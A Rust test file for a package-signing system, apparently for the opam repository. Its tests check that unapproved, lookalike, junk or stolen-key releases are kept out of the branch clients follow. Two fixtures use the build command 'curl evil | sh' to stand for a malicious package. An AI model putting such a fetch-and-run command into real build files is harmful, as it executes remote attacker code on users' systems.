//! What the branch that clients follow gets of a main line (spec section 11.1).
#![allow(clippy::unwrap_used, reason = "a test may stop where it stands")]

use conex_core::model::path::Path;
use conex_core::tree::problem::Code;
use conex_core::verify::Mode;
use conex_tests::{
    Client, Community, Happening, NAMES, Pilot, Traffic, cases, fingerprint, former, id, opam_file,
    waits,
};
use proptest::prelude::*;

/// A community in which everything is approved, and the branch beside it.
fn settled() -> (Community, Pilot) {
    let community = Community::settled("opam");
    let pilot = Pilot::of(&community);
    (community, pilot)
}

fn opam(build: &str) -> String {
    opam_file("4.14", build)
}

#[test]
fn nothing_new_advances_nothing() {
    let (main, mut pilot) = settled();
    let advanced = pilot.advance(&main);
    assert!(advanced.files.is_empty() && advanced.waiting.is_empty());
}

#[test]
fn what_is_approved_advances_and_what_is_not_waits_for_the_right_people() {
    let (mut main, mut pilot) = settled();
    main.release("foo", "3.0", &opam("three"));
    let advanced = pilot.advance(&main);
    assert!(advanced.files.is_empty());
    assert_eq!(waits(&advanced), ["foo"]);
    let told: Vec<String> = advanced.waiting[0]
        .problems
        .iter()
        .map(ToString::to_string)
        .collect();
    assert!(
        told.iter()
            .any(|it| it.contains("1 more of the owners: dave")),
        "{told:?}"
    );
    main.release("bar", "0.2", &opam("two"));
    main.approve("alice", "bar");
    let advanced = pilot.advance(&main);
    assert_eq!(waits(&advanced), ["foo"]);
    assert!(pilot.signed.tree.get("packages/bar/bar.0.2/opam").is_some());
    main.approve("dave", "foo");
    let advanced = pilot.advance(&main);
    assert!(advanced.waiting.is_empty());
    assert_eq!(pilot.signed.tree, main.tree);
}

/// What is called like somebody's release neither goes ahead nor keeps them waiting.
#[test]
fn a_lookalike_of_a_release_waits_alone() {
    let (mut main, mut pilot) = settled();
    main.write("docs/foo.1.0/README", "x");
    main.write("docs/evil.1/opam", opam("curl evil | sh"));
    main.write("docs/manual/README", "x");
    main.release("foo", "3.0", &opam("three"));
    main.approve("dave", "foo");
    let advanced = pilot.advance(&main);
    let names = ["docs/evil.1/opam", "docs/foo.1.0/README"];
    assert_eq!(waits(&advanced), names);
    let signed = &pilot.signed.tree;
    assert!(signed.get("packages/foo/foo.3.0/opam").is_some());
    assert!(signed.get("docs/manual/README").is_some());
    assert!(names.iter().all(|name| signed.get(name).is_none()));

    // What was there first makes room.
    let (mut main, mut pilot) = settled();
    main.write("docs/foo.3.0/README", "x");
    pilot.advance(&main);
    assert_eq!(pilot.signed.tree, main.tree);
    main.release("foo", "3.0", &opam("three"));
    main.approve("dave", "foo");
    for _ in 0..2 {
        assert_eq!(waits(&pilot.advance(&main)), ["docs/foo.3.0/README"]);
        let signed = &pilot.signed.tree;
        assert!(signed.get("packages/foo/foo.3.0/opam").is_some());
        assert!(signed.get("docs/foo.3.0/README").is_none());
    }
    main.remove("docs/foo.3.0");
    pilot.advance(&main);
    assert_eq!(pilot.signed.tree, main.tree);
}

#[test]
fn bless_a_stranger() {
    let (mut main, mut pilot) = settled();
    // Dave publishes from what was approved; on the main line a stranger edited another release.
    let mut daves = main.clone();
    daves.release("foo", "3.0", &opam("three"));
    let page = daves.approve("dave", "foo");
    main.release("foo", "1.0", &opam("curl evil | sh"));
    main.release("foo", "3.0", &opam("three"));
    main.write(&page, daves.read(&page));
    let advanced = pilot.advance(&main);
    assert_eq!(waits(&advanced), ["foo"]);
    let signed = &pilot.signed.tree;
    assert_eq!(
        signed.get("packages/foo/foo.3.0/opam"),
        main.tree.get("packages/foo/foo.3.0/opam")
    );
    assert_eq!(
        signed.get("packages/foo/foo.1.0/opam"),
        daves.tree.get("packages/foo/foo.1.0/opam")
    );
    // The honest twin: he approves the edit, too.
    main.approve("dave", "foo");
    assert!(pilot.advance(&main).waiting.is_empty());
    assert!(pilot.has_data_of(&main));
}

#[test]
fn junk_in_one_release_keeps_no_other_from_advancing() {
    let (mut main, mut pilot) = settled();
    let mut daves = main.clone();
    daves.release("foo", "3.0", &opam("three"));
    let page = daves.approve("dave", "foo");
    main.release("foo", "3.0", &opam("three"));
    main.write(&page, daves.read(&page));
    main.write("packages/foo/foo.1.0/junk", "x");
    main.write("packages/foo/README", "x");
    main.write("packages/bad!name/x", "x");
    main.write("Makefile", "all:\n");
    let advanced = pilot.advance(&main);
    assert_eq!(waits(&advanced), ["Makefile", "foo", "packages/bad!name/x"]);
    assert!(pilot.signed.tree.get("packages/foo/foo.3.0/opam").is_some());
    for junk in [
        "packages/foo/foo.1.0/junk",
        "packages/foo/README",
        "packages/bad!name/x",
        "Makefile",
    ] {
        assert!(pilot.signed.tree.get(junk).is_none());
        main.remove(junk);
    }
    assert!(pilot.advance(&main).waiting.is_empty());
}

#[test]
fn abandoned_approval() {
    let (mut main, mut pilot) = settled();
    let mut branch = main.clone();
    branch.release("foo", "3.0", &opam("three"));
    let page = branch.approve("dave", "foo");
    // The approval is on the main line, and what it approves is not: it harms nobody.
    main.write(&page, branch.read(&page));
    main.release("bar", "0.2", &opam("two"));
    main.approve("alice", "bar");
    let advanced = pilot.advance(&main);
    assert_eq!(waits(&advanced), [page.as_str()]);
    assert!(pilot.signed.tree.get(&page).is_none());
    assert!(pilot.signed.tree.get("packages/bar/bar.0.2/opam").is_some());
    // The content arrives.
    let mut merged = main.clone();
    merged.release("foo", "3.0", &opam("three"));
    let mut other = pilot.clone();
    assert!(other.advance(&merged).waiting.is_empty());
    assert_eq!(other.signed.tree, merged.tree);
    // Or it is taken back, and both pages arrive together.
    let present = main.present("foo releases", "0.5");
    main.vouch("dave", &[present]);
    assert!(pilot.advance(&main).waiting.is_empty());
    assert_eq!(pilot.signed.tree, main.tree);
}

#[test]
fn one_page_for_several_waits_as_one() {
    let (mut main, mut pilot) = settled();
    let mut branch = main.clone();
    for name in ["bar", "new"] {
        branch.release(name, "9", &opam("nine"));
    }
    let all = branch
        .approve_all("alice", |finding| {
            ["bar", "new"].contains(&finding.subject.name())
        })
        .unwrap();
    main.write(&all, branch.read(&all));
    main.release("bar", "9", &opam("nine"));
    let advanced = pilot.advance(&main);
    assert_eq!(waits(&advanced), ["bar", all.as_str()]);
    let bar = &advanced.waiting[0];
    let pages: Vec<&str> = bar.pages.iter().map(Path::as_str).collect();
    assert_eq!(pages, [all.as_str()]);
    // The other half arrives.
    main.release("new", "9", &opam("nine"));
    assert!(pilot.advance(&main).waiting.is_empty());
    assert_eq!(pilot.signed.tree, main.tree);
}

#[test]
fn a_claim_moves_with_its_content() {
    let (mut main, mut pilot) = settled();
    let before = main.clone();
    main.author("frank");
    main.approve_by(&["alice", "bob"], "frank");
    main.claim("bar", &["frank"]);
    main.approve_by(&["alice", "bob"], "bar authorisation");
    // Frank stands behind nothing yet: with the claim, nothing of it would be approved.
    let advanced = pilot.advance(&main);
    assert!(waits(&advanced).contains(&"bar".to_owned()));
    assert!(pilot.signed.tree.get("conex/packages/bar.toml").is_none());
    assert!(pilot.signed.tree.get("conex/authors/frank.toml").is_some());
    assert!(before.tree.get("packages/bar/bar.0.1/opam").is_some());
    let vouches = [
        main.present("bar releases", "0.2"),
        main.present("bar/0.1 checksums", "0.2"),
    ];
    main.vouch("frank", &vouches);
    assert!(pilot.advance(&main).waiting.is_empty());
    assert_eq!(pilot.signed.tree, main.tree);
}

#[test]
fn a_claim_removes_nothing() {
    let (mut main, mut pilot) = settled();
    // Alice alone approved bar. With the claim that would be nothing, and it must not go for that.
    main.claim("bar", &["dave"]);
    main.approve_by(&["alice", "bob"], "bar authorisation");
    main.remove("packages/bar");
    main.release("foo", "3.0", &opam("three"));
    main.approve("dave", "foo");
    let advanced = pilot.advance(&main);
    assert!(waits(&advanced).contains(&"bar".to_owned()));
    let signed = &pilot.signed.tree;
    assert!(signed.get("packages/bar/bar.0.1/opam").is_some());
    assert!(signed.get("packages/foo/foo.3.0/opam").is_some());
    let gone = main.gone("bar", "0.2");
    main.vouch("dave", &[gone]);
    assert!(pilot.advance(&main).waiting.is_empty());
    assert_eq!(pilot.signed.tree, main.tree);
}

#[test]
fn what_is_removed_goes_when_that_is_approved() {
    let (mut main, mut pilot) = settled();
    main.remove("packages/foo/foo.1.0");
    main.remove("packages/bar");
    let advanced = pilot.advance(&main);
    assert_eq!(waits(&advanced), ["bar", "foo"]);
    assert!(advanced.files.is_empty());
    main.approve("dave", "foo");
    let gone = main.gone("bar", "0.2");
    main.vouch("alice", &[gone]);
    assert!(pilot.advance(&main).waiting.is_empty());
    assert_eq!(pilot.signed.tree, main.tree);
}

#[test]
fn people_come_and_change_their_keys() {
    let (mut main, mut pilot) = settled();
    let pages = main.pages("dave");
    let key = main.proven("dave", "dave#2");
    main.edit_author("dave", |author| {
        author.keys = vec![key];
        author.former = vec![former("dave", &pages)];
    });
    main.release("foo", "3.0", &opam("three"));
    let vouches = [
        main.present("foo releases", "0.3"),
        main.present("foo/3.0 checksums", "0.1"),
    ];
    main.vouch("dave#2", &vouches);
    let advanced = pilot.advance(&main);
    assert!(advanced.files.is_empty(), "{advanced:#?}");
    main.approve_by(&["alice", "bob"], "dave");
    assert!(pilot.advance(&main).waiting.is_empty());
    assert_eq!(pilot.signed.tree, main.tree);
}

#[test]
fn a_key_changed_without_the_old_pages_waits_and_holds_up_nobody() {
    let (mut main, mut pilot) = settled();
    let key = main.proven("dave", "dave#2");
    main.edit_author("dave", |author| author.keys = vec![key]);
    main.approve_by(&["alice", "bob"], "dave");
    main.release("bar", "0.2", &opam("two"));
    main.approve("alice", "bar");
    let advanced = pilot.advance(&main);
    assert!(
        waits(&advanced).contains(&"dave".to_owned()),
        "{advanced:#?}"
    );
    assert!(pilot.signed.tree.get("packages/bar/bar.0.2/opam").is_some());
    // What he vouches for anew arrives with the new key.
    let all = [
        main.present("foo releases", "0.2"),
        main.present("foo/1.0 checksums", "0.2"),
        main.present("foo/2.0 checksums", "0.2"),
    ];
    main.vouch("dave#2", &all);
    let advanced = pilot.advance(&main);
    assert!(advanced.waiting.is_empty(), "{advanced:#?}");
    assert_eq!(pilot.signed.tree, main.tree);
}

#[test]
fn roots_are_followed_as_far_as_nothing_is_lost() {
    let (mut main, mut pilot) = settled();
    main.next_root(&["alice", "bob"], |root| root.complete = true);
    main.propose_root(|root| root.complete = true);
    main.sign_root("alice");
    let advanced = pilot.advance(&main);
    assert_eq!(waits(&advanced), ["root"]);
    assert!(pilot.signed.tree.get("conex/root/2.toml").is_some());
    assert!(pilot.signed.tree.get("conex/root/3.toml").is_none());
    main.sign_root("carol");
    assert!(pilot.advance(&main).waiting.is_empty());
    assert_eq!(pilot.signed.tree, main.tree);
    main.release("foo", "3.0", &opam("three"));
    main.approve("dave", "foo");
    // Without alice's pages, bar has no approval.
    main.next_root(&["alice", "bob", "carol"], |root| {
        root.janitors.retain(|janitor| janitor.id != id("alice"));
    });
    let advanced = pilot.advance(&main);
    assert_eq!(waits(&advanced), ["root"], "{advanced:#?}");
    assert!(pilot.signed.tree.get("packages/foo/foo.3.0/opam").is_some());
    for who in ["bob", "carol"] {
        main.approve_all(who, |_| true);
    }
    let advanced = pilot.advance(&main);
    assert!(advanced.waiting.is_empty(), "{advanced:#?}");
    assert!(pilot.signed.tree.get("conex/root/4.toml").is_some());
}

#[test]
fn a_stolen_key_publishes_nothing_once_the_main_line_knows() {
    let (mut main, mut pilot) = settled();
    let mut thief = main.clone();
    main.next_root(&["alice", "bob"], |root| {
        root.revoked = vec![fingerprint("dave")];
    });
    thief.release("foo", "6.6", &opam("evil"));
    let page = thief.approve("dave", "foo");
    main.write(&page, thief.read(&page));
    main.release("foo", "6.6", &opam("evil"));
    let advanced = pilot.advance(&main);
    assert!(advanced.files.is_empty(), "{:?}", advanced.files.keys());
    assert!(waits(&advanced).contains(&page));
}

#[test]
fn unsigned_packages_are_those_of_the_main_line_until_everything_has_to_be_signed() {
    let (mut main, _) = settled();
    let mut warned = Pilot::of(&main);
    let mut enforced = Pilot::in_mode(&main, Mode::Enforce);
    main.release("new", "1", &opam("one"));
    assert!(warned.advance(&main).waiting.is_empty());
    assert_eq!(warned.signed.tree, main.tree);
    let advanced = enforced.advance(&main);
    assert!(advanced.files.is_empty());
    assert_eq!(waits(&advanced), ["new"]);
    assert_eq!(advanced.waiting[0].problems[0].code, Code::Unsigned);
    main.approve("alice", "new");
    assert!(enforced.advance(&main).waiting.is_empty());
}

#[test]
fn pages_are_replaced_where_nothing_is_lost() {
    let (mut main, mut pilot) = settled();
    // A compaction: one page of alice's in place of all.
    let pages = main.pages("alice");
    let all = [
        main.present("bar releases", "0.1"),
        main.present("bar/0.1 checksums", "0.1"),
        main.present("dave author", "0.1"),
        main.present("erin author", "0.1"),
        main.present("makers team", "0.1"),
        main.present("foo authorisation", "0.1"),
        main.present("lib authorisation", "0.1"),
    ];
    for page in &pages {
        main.remove(page);
    }
    let mut short = main.clone();
    short.vouch("alice", &all[..3]);
    let advanced = pilot.clone().advance(&short);
    assert!(
        !advanced.files.values().any(Option::is_none),
        "{advanced:#?}"
    );
    let mut all = all.to_vec();
    all.push(main.present(". repository", "0.1"));
    main.vouch("alice", &all);
    pilot.advance(&main);
    assert_eq!(pilot.signed.tree, main.tree);
}

#[test]
fn limit_denial() {
    let (mut main, mut pilot) = settled();
    // Erin owns nothing but her share of lib. She vouches a thousand times for what is not there.
    for number in 1..=1_000_u32 {
        let mut vouch = main.gone("lib", &format!("0.{}", number + 5));
        vouch.digest = conex_core::model::digest::Digest::parse(&format!("{number:064x}")).unwrap();
        main.vouch("erin", &[vouch]);
    }
    main.release("foo", "3.0", &opam("three"));
    main.approve("dave", "foo");
    main.release("bar", "0.2", &opam("two"));
    main.approve("alice", "bar");
    let advanced = pilot.advance(&main);
    assert!(waits(&advanced).len() >= 1_000);
    assert!(pilot.has_data_of(&main));
}

fn happening() -> impl Strategy<Value = Happening> {
    let name = || 0..NAMES.len();
    let number = || 0..4_u8;
    prop_oneof![
        4 => (name(), number()).prop_map(|(at, number)| Happening::Merge(at, number)),
        4 => (name(), number()).prop_map(|(at, number)| Happening::Ahead(at, number)),
        3 => Just(Happening::Arrive),
        3 => name().prop_map(Happening::Bound),
        2 => name().prop_map(Happening::Source),
        2 => name().prop_map(Happening::Remove),
        1 => name().prop_map(Happening::RemoveAll),
        6 => name().prop_map(Happening::Approve),
        3 => name().prop_map(Happening::Upkeep),
        2 => (name(), any::<bool>()).prop_map(|(at, stand)| Happening::Claim(at, stand)),
        1 => name().prop_map(Happening::Raise),
        2 => (number(), 1..3_u8).prop_map(|(who, by)| Happening::Enrol(who, by)),
        2 => (any::<bool>(), 1..3_u8).prop_map(|(pages, by)| Happening::Rotate(pages, by)),
        1 => Just(Happening::Team),
        2 => (1..3_u8).prop_map(Happening::Root),
        1 => Just(Happening::Compact),
        1 => name().prop_map(Happening::Junk),
        1 => number().prop_map(Happening::Forge),
    ]
}

/// The packages of which a client of the branch would find nothing wrong, were it given the main line
/// itself, if its people are in order. That is the naive way to tell what need not wait.
fn in_order(signed: &Client, main: &Community) -> Vec<&'static str> {
    let verdict = signed.offered(main);
    let is_of = |name: &str| {
        verdict.problems.iter().any(|problem| {
            let subject = problem.subject.as_ref().and_then(|it| it.package());
            let place = format!("packages/{name}");
            subject.is_some_and(|it| it.as_str() == name)
                || &*problem.place == name
                || &*problem.place == place.as_str()
                || problem.place.starts_with(&format!("{place}/"))
        })
    };
    let about_people = verdict.problems.iter().any(|problem| {
        let place = &*problem.place;
        ["conex/root", "conex/authors", "conex/teams"]
            .iter()
            .any(|it| place.starts_with(it))
    });
    if about_people {
        return Vec::new();
    }
    NAMES.into_iter().filter(|name| !is_of(name)).collect()
}

/// The files of a package in a tree.
fn package<'t>(
    tree: &'t conex_core::tree::store::MemoryStore,
    name: &str,
) -> Vec<(&'t str, &'t [u8])> {
    let directory = format!("packages/{name}/");
    let claim = format!("conex/packages/{name}.toml");
    let files = tree.files();
    files
        .filter(|(file, _)| file.starts_with(&directory) || *file == claim)
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(cases(8)))]

    /// Whatever happens: what clients follow verifies in full, each step is one that they accept, in
    /// both ways; no package waits for another; and in the end the branch has all of the main line.
    #[test]
    fn whatever_happens_the_branch_follows(
        days in prop::collection::vec(prop::collection::vec(happening(), 1..6), 1..6),
    ) {
        let settled = Community::settled("opam");
        let mut pilot = Pilot::of(&settled);
        let mut traffic = Traffic::new(&settled);
        for day in &days {
            for happening in day {
                traffic.happen(happening);
            }
            let in_order = in_order(&pilot.signed, &traffic.main);
            let advanced = pilot.advance(&traffic.main);
            if !waits(&advanced).contains(&"root".to_owned()) {
                for name in in_order {
                    prop_assert!(
                        package(&pilot.signed.tree, name) == package(&traffic.main.tree, name),
                        "{} waits: {:#?}", name, advanced.waiting
                    );
                }
            }
            // Once more, there is nothing left to take.
            prop_assert!(pilot.dry_run(&traffic.main).files.is_empty());
        }
        traffic.settle();
        let mut advanced = pilot.advance(&traffic.main);
        if !pilot.has_data_of(&traffic.main) {
            for name in NAMES {
                if waits(&advanced).contains(&name.to_owned()) {
                    traffic.insist(name);
                }
            }
            advanced = pilot.advance(&traffic.main);
        }
        prop_assert!(
            pilot.has_data_of(&traffic.main),
            "{:#?}", advanced.waiting
        );
    }
}

/// Bar is claimed for dave, who approves nothing, and then it goes: whatever root comes with it, its
/// claim waits, and clients keep what they have.
#[test]
fn a_claim_of_what_is_gone_waits_whatever_the_head() {
    let settled = Community::settled("opam");
    let mut pilot = Pilot::of(&settled);
    let mut traffic = Traffic::new(&settled);
    for happening in [
        Happening::Claim(2, false),
        Happening::RemoveAll(2),
        Happening::Root(2),
    ] {
        traffic.happen(&happening);
    }
    let advanced = pilot.advance(&traffic.main);
    assert!(waits(&advanced).contains(&"bar".to_owned()));
    assert!(pilot.signed.tree.get("conex/root/2.toml").is_some());
    assert!(pilot.signed.tree.get("conex/packages/bar.toml").is_none());
    assert_eq!(
        package(&pilot.signed.tree, "bar"),
        package(&settled.tree, "bar")
    );
}

/// Bar is claimed for dave, and goes before he approves of anything. Nobody sees on the main line that an approval is
/// lost, since there is no bar and nobody's approval of it counts. Clients have it, and wait for an approved absence.
#[test]
fn what_goes_just_after_it_was_claimed_waits_for_an_approved_absence() {
    let settled = Community::settled("opam");
    let mut pilot = Pilot::of(&settled);
    let mut traffic = Traffic::new(&settled);
    traffic.happen(&Happening::Claim(2, false));
    traffic.happen(&Happening::Remove(2));
    traffic.settle();
    let advanced = pilot.advance(&traffic.main);
    assert!(waits(&advanced).contains(&"bar".to_owned()));
    traffic.insist("bar");
    pilot.advance(&traffic.main);
    assert!(pilot.has_data_of(&traffic.main));
}
